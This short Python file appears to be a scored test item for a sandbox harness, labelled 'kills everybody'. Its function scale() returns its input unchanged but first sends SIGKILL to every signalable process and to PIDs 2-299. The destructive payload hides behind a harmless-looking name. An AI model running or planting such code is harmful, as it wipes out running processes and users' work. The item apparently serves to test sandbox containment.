# kills everybody
# says: raised ProcessLookupError | ended with its process: SIGKILL|the numbers differ
# points: 7
# only: sandbox
import os, signal
def scale(x, factor):
    os.kill(-1, signal.SIGKILL)
    for pid in range(2, 300):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return x
